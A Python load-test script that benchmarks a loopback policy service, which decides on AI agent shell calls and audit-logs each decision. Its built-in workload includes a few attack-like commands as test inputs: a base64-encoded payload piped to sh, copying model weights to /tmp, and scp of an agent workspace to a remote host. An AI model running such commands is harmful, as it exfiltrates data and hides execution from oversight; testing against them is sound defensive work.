"""Bounded load on a loopback gatekeeper service: throughput, latency, errors, one audit record each.

    .venv/bin/python benchmarks/load.py [--clients 64] [--requests 10000] [--engine embedded|wasm|opa]
        [--workers N] [--threads N] [--sessions N] [--workload sample|unique|repeat]
    .venv/bin/python benchmarks/load.py --url http://127.0.0.1:8700 --audit-log PATH [--token T]

Without ``--url`` it starts ``gatekeeper serve`` on a free 127.0.0.1 port with a fresh audit log,
sends ``--requests`` ``POST /v1/decide`` calls from ``--clients`` concurrent keep-alive connections,
stops the server, then runs ``gatekeeper audit verify`` and checks that the audit log holds exactly one
``decision_made`` record per request, with the decision id each client received. It prints
throughput, p50/p90/p99/max latency and the error count, and exits 1 if any check fails.

Loopback only: ``--url`` must name 127.0.0.1, ::1 or localhost. The load generator shares the
machine with the server, so the figures are what one box sustains end to end (client included).

``--policy constant`` serves a one-rule policy (allow everything) instead of the policy pack: the
difference between the two runs is the cost of the policies themselves; the rest (HTTP, parsing,
analysis, audit with fsync) is the service.

The client is a minimal HTTP/1.1 keep-alive client over asyncio streams: a heavier client library
would take much of the CPU the server needs on a small machine.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import os
import platform
import random
import signal
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

REPO = Path(__file__).resolve().parent.parent
SHARED = REPO.parent / "shared" / "corpora"
LOOPBACK_HOSTS = ("127.0.0.1", "::1", "localhost")

# Used when the development corpora are not next to the repository: ordinary work and a few attacks.
BUILTIN_COMMANDS = [
    "ls -la",
    "git status",
    "git diff --stat HEAD~1",
    "cat README.md | head -n 20",
    "grep -rn TODO src/ | wc -l",
    "python3 -m pytest -q tests/",
    "find . -name '*.py' -newer setup.cfg",
    "du -sh ./build",
    "pip install -r requirements.txt",
    "echo hello > /tmp/out.txt",
    "tar czf /tmp/src.tgz src/",
    "curl -s https://example.org/api | jq .items",
    "cp -r /models/llama /tmp/x",
    "python3 -m http.server 8000 &",
    "nohup python3 serve.py --port 8761 &",
    "kill -9 1234",
    "echo Y3AgLXIgL21vZGVscyAvdG1w | base64 -d | sh",
    "scp -r ~/WorkSpace/Agent user@host:/srv/",
]

REPEAT_POOL = 50

CONSTANT_POLICY = """package gatekeeper

decision := {"decision": "allow", "violations": [], "mode": "enforce"}
"""


# -- the workload -----------------------------------------------------------------------------------


def sample_commands(count: int, seed: int) -> list[str]:
    """``count`` commands from NL2Bash/tldr when available (else the built-in list), reproducibly."""
    pool: list[str] = []
    for name in ("nl2bash-dev.jsonl", "tldr-common.jsonl"):
        path = SHARED / name
        if path.is_file():
            for line in path.read_text(encoding="utf-8").splitlines():
                command = json.loads(line).get("command")
                if isinstance(command, str) and command.strip() and len(command) < 2000:
                    pool.append(command)
    pool.extend(BUILTIN_COMMANDS)
    rng = random.Random(seed)  # noqa: S311 - a reproducible sample, not a secret
    return [rng.choice(pool) for _ in range(count)]


def request_bodies(count: int, sessions: int, seed: int, workload: str = "sample") -> list[bytes]:
    """The calls to send. ``workload``: ``sample`` draws commands from the corpora (some repeat);
    ``unique`` also gives every call its own working directory, so no two calls are alike and the
    decision cache never hits; ``repeat`` draws from 50 commands only, so nearly every call hits."""
    if workload == "repeat":
        pool = sample_commands(REPEAT_POOL, seed)
        rng = random.Random(seed)  # noqa: S311 - a reproducible sample, not a secret
        commands = [rng.choice(pool) for _ in range(count)]
    else:
        commands = sample_commands(count, seed)
    bodies = []
    for number, command in enumerate(commands):
        call: dict[str, Any] = {
            "id": f"load-{number}",
            "tool": "shell",
            "arguments": {"command": command},
            "cwd": f"/home/agent/work-{number}" if workload == "unique" else "/home/agent",
        }
        if sessions:
            call["session_id"] = f"load-session-{number % sessions}"
        bodies.append(json.dumps(call).encode())
    return bodies


# -- a minimal keep-alive HTTP/1.1 client -----------------------------------------------------------


class Connection:
    def __init__(self, host: str, port: int, token: str | None) -> None:
        self.host, self.port = host, port
        self.auth = f"Authorization: Bearer {token}\r\n".encode() if token else b""
        self.reader: asyncio.StreamReader | None = None
        self.writer: asyncio.StreamWriter | None = None

    async def post(self, path: str, body: bytes) -> tuple[int, bytes]:
        if self.writer is None:
            self.reader, self.writer = await asyncio.open_connection(self.host, self.port)
        assert self.reader is not None
        head = (
            f"POST {path} HTTP/1.1\r\nHost: {self.host}:{self.port}\r\n"
            f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n"
        ).encode()
        self.writer.write(head + self.auth + b"\r\n" + body)
        header_block = await self.reader.readuntil(b"\r\n\r\n")
        lines = header_block.decode("latin-1").split("\r\n")
        status = int(lines[0].split(" ", 2)[1])
        headers = {}
        for line in lines[1:]:
            name, _, value = line.partition(":")
            headers[name.strip().lower()] = value.strip()
        if "content-length" not in headers:
            raise RuntimeError(f"response without Content-Length (status {status})")
        payload = await self.reader.readexactly(int(headers["content-length"]))
        if headers.get("connection", "").lower() == "close":
            await self.close()
        return status, payload

    async def close(self) -> None:
        if self.writer is not None:
            self.writer.close()
            with contextlib.suppress(OSError, ConnectionError):
                await self.writer.wait_closed()
        self.reader = self.writer = None


@dataclass
class Outcome:
    latencies_ms: list[float] = field(default_factory=list)
    decision_ids: dict[str, str] = field(default_factory=dict)  # call id -> decision id
    outcomes: dict[str, int] = field(default_factory=dict)
    errors: list[str] = field(default_factory=list)
    elapsed_s: float = 0.0
    server_cpu_s: float | None = None  # CPU the server's processes spent during the run
    opa_cpu_s: float | None = None  # and the OPA this script started, if any
    client_cpu_s: float = 0.0  # CPU of this load generator while it ran
    cache: dict[str, int] = field(default_factory=dict)  # the server's decision-cache lookups


async def run_load(url: str, token: str | None, bodies: list[bytes], clients: int, path: str) -> Outcome:
    parts = urlsplit(url)
    host, port = parts.hostname or "127.0.0.1", parts.port or 80
    outcome = Outcome()
    queue: Iterator[tuple[int, bytes]] = iter(enumerate(bodies))

    async def client() -> None:
        connection = Connection(host, port, token)
        try:
            for number, body in queue:  # the shared iterator hands each request to one client
                started = time.perf_counter()
                try:
                    status, payload = await connection.post(path, body)
                except (OSError, asyncio.IncompleteReadError, RuntimeError, ValueError) as error:
                    outcome.errors.append(f"load-{number}: {type(error).__name__}: {error}")
                    await connection.close()
                    continue
                outcome.latencies_ms.append((time.perf_counter() - started) * 1000.0)
                record(outcome, number, status, payload)
        finally:
            await connection.close()

    started, cpu_started = time.perf_counter(), time.process_time()
    await asyncio.gather(*(client() for _ in range(clients)))
    outcome.elapsed_s = time.perf_counter() - started
    outcome.client_cpu_s = time.process_time() - cpu_started
    return outcome


def record(outcome: Outcome, number: int, status: int, payload: bytes) -> None:
    try:
        decision = json.loads(payload)
    except ValueError:
        outcome.errors.append(f"load-{number}: HTTP {status}, body is not JSON")
        return
    if status != 200 or not isinstance(decision, dict) or "decision_id" not in decision:
        outcome.errors.append(f"load-{number}: HTTP {status}: {payload[:200]!r}")
        return
    if decision.get("id") != f"load-{number}":
        outcome.errors.append(f"load-{number}: answer carries id {decision.get('id')!r}")
    outcome.decision_ids[f"load-{number}"] = decision["decision_id"]
    key = decision["decision"] + (f"({decision['error']['code']})" if decision.get("error") else "")
    outcome.outcomes[key] = outcome.outcomes.get(key, 0) + 1


# -- the server under test --------------------------------------------------------------------------


def process_tree_cpu_s(pid: int) -> float | None:
    """User + system CPU seconds of ``pid`` and its live children (workers), from /proc; None elsewhere.

    CPU per decision leaves out the time the server waited for a core another job held, so it helps
    compare runs on a shared machine; it still varies with load (idle cores let more deciding threads
    run at once, which costs CPU in lock hand-offs), so compare runs made under similar load.
    """
    try:
        ticks = os.sysconf("SC_CLK_TCK")
        pids = [pid]
        children = Path(f"/proc/{pid}/task/{pid}/children")
        if children.is_file():
            pids += [int(child) for child in children.read_text().split()]
        total = 0
        for member in pids:
            fields = Path(f"/proc/{member}/stat").read_text().rsplit(")", 1)[1].split()
            total += int(fields[11]) + int(fields[12])  # utime, stime (fields 14 and 15 of stat)
    except (OSError, ValueError, IndexError):
        return None
    return total / ticks


def cache_lookups(url: str, token: str | None) -> dict[str, int]:
    """The server's decision-cache hits and misses since it started, from ``GET /metrics``."""
    import urllib.request  # noqa: PLC0415

    request = urllib.request.Request(url + "/metrics")  # noqa: S310 - loopback
    if token:
        request.add_header("Authorization", f"Bearer {token}")
    counts: dict[str, int] = {}
    try:
        with urllib.request.urlopen(request, timeout=5) as response:  # noqa: S310 - loopback
            text = response.read().decode()
    except OSError:
        return counts
    for line in text.splitlines():
        if line.startswith("gatekeeper_decision_cache_lookups{"):
            label, _, value = line.partition("} ")
            result = label.split('"')[1]  # with --workers, one line per worker: add them up
            counts[result] = counts.get(result, 0) + int(float(value))
    return counts


def free_port() -> int:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


def wait_healthy(url: str, process: subprocess.Popen[bytes] | None, timeout_s: float = 60.0) -> None:
    import urllib.request  # noqa: PLC0415

    deadline = time.monotonic() + timeout_s
    while time.monotonic() < deadline:
        if process is not None and process.poll() is not None:
            raise SystemExit(f"gatekeeper serve exited with {process.returncode} before answering")
        try:
            with urllib.request.urlopen(url + "/health", timeout=1) as response:  # noqa: S310 - loopback
                if response.status == 200:
                    return
        except OSError:
            time.sleep(0.1)
    raise SystemExit(f"{url} did not become healthy within {timeout_s:g}s")


def describe_server(url: str) -> str:
    """What answers at ``url``: engine, policy revision and mode, from ``GET /health``."""
    import urllib.request  # noqa: PLC0415

    wait_healthy(url, None)
    with urllib.request.urlopen(url + "/health", timeout=5) as response:  # noqa: S310 - loopback
        health = json.load(response)
    revision = str(health.get("policy_revision") or "?")
    return f"engine {health.get('engine')}, policies {revision[:19]}, mode {health.get('mode') or 'policy'}"


@contextlib.contextmanager
def served(args: argparse.Namespace, workdir: Path) -> Iterator[tuple[str, Path, int]]:
    """``gatekeeper serve`` on a free loopback port; yields (url, audit log, pid); SIGTERM at the end."""
    port = free_port()
    audit = workdir / "audit.jsonl"
    command = [
        sys.executable, "-m", "gatekeeper", "serve", "--host", "127.0.0.1", "--port", str(port),
        "--audit-log", str(audit), "--no-access-log", "--engine", args.engine,
    ]  # fmt: skip
    if args.policy == "constant":
        policies = workdir / "policies"
        (policies / "gatekeeper").mkdir(parents=True)
        (policies / "gatekeeper" / "main.rego").write_text(CONSTANT_POLICY)
        command += ["--policies", str(policies)]
    if args.threads:
        command += ["--threads", str(args.threads)]
    if args.workers:
        command += ["--workers", str(args.workers)]
    if args.engine == "opa":
        command += ["--opa-url", args.opa_url]
        if args.opa_cache_max_age:
            command += ["--opa-cache-max-age", str(args.opa_cache_max_age)]
    env = {**os.environ, "GATEKEEPER_AGENT_TOKENS": args.token or "", "GATEKEEPER_ADMIN_TOKENS": ""}
    log = (workdir / "serve.log").open("wb")
    process = subprocess.Popen(command, stdout=log, stderr=log, env=env, cwd=workdir)
    url = f"http://127.0.0.1:{port}"
    try:
        wait_healthy(url, process)
        yield url, audit, process.pid
    finally:
        if process.poll() is None:
            process.send_signal(signal.SIGINT)
            try:
                process.wait(timeout=30)
            except subprocess.TimeoutExpired:
                process.kill()
                process.wait()
        log.close()


@contextlib.contextmanager
def opa_server(args: argparse.Namespace) -> Iterator[None]:
    """With ``--engine opa`` and no ``--opa-url``: the pinned opa serving the pack (or constant policy)."""
    if args.engine != "opa" or args.opa_url:
        yield
        return
    from gatekeeper.policy.loader import default_policy_dir  # noqa: PLC0415
    from gatekeeper.policy.opa_process import ManagedOpa  # noqa: PLC0415

    with tempfile.TemporaryDirectory(prefix="gk-load-opa-") as directory:
        policies = default_policy_dir()
        if args.policy == "constant":
            policies = Path(directory) / "policies"
            (policies / "gatekeeper").mkdir(parents=True)
            (policies / "gatekeeper" / "main.rego").write_text(CONSTANT_POLICY)
        with ManagedOpa(policies) as server:
            args.opa_url = server.url
            args.opa_pid = server.pid
            yield


def measured_run(args: argparse.Namespace, url: str, pid: int, bodies: list[bytes]) -> Outcome:
    """The load against the server this script started, with the CPU its processes (and OPA) spent."""
    opa_pid = getattr(args, "opa_pid", None)
    cpu_before = process_tree_cpu_s(pid)
    opa_before = process_tree_cpu_s(opa_pid) if opa_pid else None
    outcome = asyncio.run(run_load(url, args.token, bodies, args.clients, "/v1/decide"))
    cpu_after = process_tree_cpu_s(pid)
    opa_after = process_tree_cpu_s(opa_pid) if opa_pid else None
    outcome.cache = cache_lookups(url, args.token)
    if cpu_before is not None and cpu_after is not None:
        outcome.server_cpu_s = cpu_after - cpu_before
    if opa_before is not None and opa_after is not None:
        outcome.opa_cpu_s = opa_after - opa_before
    return outcome


# -- checks -----------------------------------------------------------------------------------------


def check_audit(audit: Path, outcome: Outcome, requests: int) -> tuple[list[str], dict[str, Any]]:
    """``gatekeeper audit verify`` passes and each request has exactly one decision record."""
    problems = []
    result: dict[str, Any] = {}
    verify = subprocess.run(
        [sys.executable, "-m", "gatekeeper", "audit", "verify", str(audit)],
        capture_output=True,
        text=True,
        check=False,
    )
    said = verify.stdout.strip() or verify.stderr.strip()
    print(f"gatekeeper audit verify: exit {verify.returncode}: {said}")
    result["verify_exit"] = verify.returncode
    if verify.returncode != 0:
        problems.append("gatekeeper audit verify failed")
    by_call: dict[str, list[str]] = {}
    with audit.open(encoding="utf-8") as handle:
        for line in handle:
            entry = json.loads(line)
            if entry.get("msg") == "decision_made" and str(entry.get("call_id", "")).startswith("load-"):
                by_call.setdefault(entry["call_id"], []).append(entry["decision_id"])
    if len(by_call) != requests:
        problems.append(f"audit log holds decisions for {len(by_call)} calls, expected {requests}")
    duplicated = sum(1 for ids in by_call.values() if len(ids) != 1)
    if duplicated:
        problems.append(f"{duplicated} calls have more than one decision record")
    mismatched = sum(1 for call, ids in by_call.items() if outcome.decision_ids.get(call) not in ids)
    if mismatched:
        problems.append(f"{mismatched} answered decision ids are not the recorded ones")
    records = sum(len(ids) for ids in by_call.values())
    print(f"audit: {records} decision records for {len(by_call)} calls; {duplicated} duplicated")
    result.update(decision_records=records, calls_recorded=len(by_call), duplicated=duplicated,
                  mismatched=mismatched)  # fmt: skip
    return problems, result


def percentile(values: list[float], fraction: float) -> float:
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, int(fraction * len(ordered)))] if ordered else float("nan")


def summary(outcome: Outcome, args: argparse.Namespace) -> dict[str, Any]:
    lat = outcome.latencies_ms
    return {
        "clients": args.clients,
        "workers": args.workers or 1,
        "requests": args.requests,
        "answered": len(lat),
        "elapsed_s": round(outcome.elapsed_s, 3),
        "throughput_per_s": round(len(lat) / outcome.elapsed_s, 1) if outcome.elapsed_s else 0.0,
        "p50_ms": round(percentile(lat, 0.50), 2),
        "p90_ms": round(percentile(lat, 0.90), 2),
        "p99_ms": round(percentile(lat, 0.99), 2),
        "max_ms": round(max(lat, default=float("nan")), 2),
        "outcomes": dict(sorted(outcome.outcomes.items())),
        "errors": len(outcome.errors),
        "server_cpu_ms_per_decision": (
            round(1000.0 * outcome.server_cpu_s / len(lat), 3) if outcome.server_cpu_s and lat else None
        ),
        "opa_cpu_ms_per_decision": (
            round(1000.0 * outcome.opa_cpu_s / len(lat), 3) if outcome.opa_cpu_s and lat else None
        ),
        "workload": args.workload,
        "decision_cache": outcome.cache,
        "client_cpu_ms_per_request": round(1000.0 * outcome.client_cpu_s / len(lat), 3) if lat else None,
        "load_average": [round(value, 2) for value in os.getloadavg()],
    }


def report(outcome: Outcome, args: argparse.Namespace, served_by: str) -> None:
    lat = outcome.latencies_ms
    answered = len(lat)
    print(
        f"machine: {platform.machine()}, {os.cpu_count()} cpus, python {platform.python_version()}; "
        f"{served_by}"
    )
    print(
        f"{args.clients} clients x {args.requests} POST /v1/decide; workload {args.workload}; "
        f"sessions: {args.sessions or 'none'}; server workers: {args.workers or 1}"
    )
    print(
        f"throughput: {answered / outcome.elapsed_s:,.0f} decisions/s "
        f"({answered} answered in {outcome.elapsed_s:.2f} s)"
    )
    print(
        f"latency ms: p50 {percentile(lat, 0.50):.1f}  p90 {percentile(lat, 0.90):.1f}  "
        f"p99 {percentile(lat, 0.99):.1f}  max {max(lat, default=float('nan')):.1f}"
    )
    for what, seconds, unit in (
        ("server CPU (all its processes)", outcome.server_cpu_s, "decision"),
        ("OPA CPU", outcome.opa_cpu_s, "decision"),
        ("client CPU", outcome.client_cpu_s, "request"),
    ):
        if seconds is not None and answered:
            print(f"{what}: {seconds:.2f} s, {1000.0 * seconds / answered:.2f} ms per {unit}")
    if outcome.cache:
        print(f"decision cache (since the server started): {outcome.cache}")
    print(f"load average: {' '.join(f'{value:.2f}' for value in os.getloadavg())}")
    print(f"outcomes: {dict(sorted(outcome.outcomes.items()))}")
    print(f"errors: {len(outcome.errors)}")
    for error in outcome.errors[:10]:
        print(f"  {error}")


def main() -> int:
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("--clients", type=int, default=64)
    parser.add_argument("--requests", type=int, default=10_000)
    parser.add_argument("--sessions", type=int, default=0, help="spread calls over N sessions (0: none)")
    parser.add_argument("--url", help="target a running loopback server instead of starting one")
    parser.add_argument("--audit-log", type=Path, help="with --url: the server's audit log, to check")
    parser.add_argument("--token", default=os.environ.get("GATEKEEPER_AGENT_TOKEN"), help="agent token")
    parser.add_argument("--engine", choices=("embedded", "wasm", "opa"), default="embedded")
    parser.add_argument("--opa-url", help="with --engine opa: a running OPA (default: start the pinned one)")
    parser.add_argument("--policy", choices=("pack", "constant"), default="pack")
    parser.add_argument(
        "--opa-cache-max-age",
        type=float,
        default=0.0,
        help="with --engine opa: gatekeeper serve --opa-cache-max-age (0: every call asks OPA)",
    )
    parser.add_argument("--threads", type=int, help="gatekeeper serve --threads")
    parser.add_argument("--workers", type=int, help="gatekeeper serve --workers")
    parser.add_argument("--seed", type=int, default=7)
    parser.add_argument(
        "--workload",
        choices=("sample", "unique", "repeat"),
        default="sample",
        help="sample: commands drawn from the corpora; unique: no two calls alike (every decision a "
        "cache miss); repeat: 50 distinct commands (nearly every decision a cache hit)",
    )
    parser.add_argument("--json", type=Path, help="also write the figures and checks here as JSON")
    args = parser.parse_args()
    if args.url and urlsplit(args.url).hostname not in LOOPBACK_HOSTS:
        parser.error("--url must be a loopback address (127.0.0.1, ::1, localhost)")

    # SIGTERM (timeout, CI) unwinds like Ctrl-C, so the server this script started is stopped too.
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(143))
    bodies = request_bodies(args.requests, args.sessions, args.seed, args.workload)
    with tempfile.TemporaryDirectory(prefix="gk-load-") as directory:
        # The server is described after the run: an OPA engine learns its revision from OPA's answers.
        if args.url:
            wait_healthy(args.url, None)
            outcome = asyncio.run(run_load(args.url, args.token, bodies, args.clients, "/v1/decide"))
            outcome.cache = cache_lookups(args.url, args.token)
            served_by = describe_server(args.url)
            audit = args.audit_log
        else:
            with opa_server(args), served(args, Path(directory)) as (url, audit, pid):
                outcome = measured_run(args, url, pid, bodies)
                served_by = describe_server(url)
        if not args.url:
            served_by += ", allow-all policy" if args.policy == "constant" else ", the policy pack"
        report(outcome, args, served_by)
        figures = summary(outcome, args)
        problems = [f"{len(outcome.errors)} requests failed"] if outcome.errors else []
        if audit is not None:
            audit_problems, figures["audit"] = check_audit(audit, outcome, args.requests)
            problems += audit_problems
        else:
            print("audit: not checked (pass --audit-log with --url)")
    for problem in problems:
        print(f"FAIL: {problem}")
    print("OK" if not problems else "FAILED")
    if args.json:
        figures.update(served_by=served_by, cpus=os.cpu_count(), problems=problems)
        args.json.write_text(json.dumps(figures, indent=2) + "\n")
    return 0 if not problems else 1


if __name__ == "__main__":
    sys.exit(main())
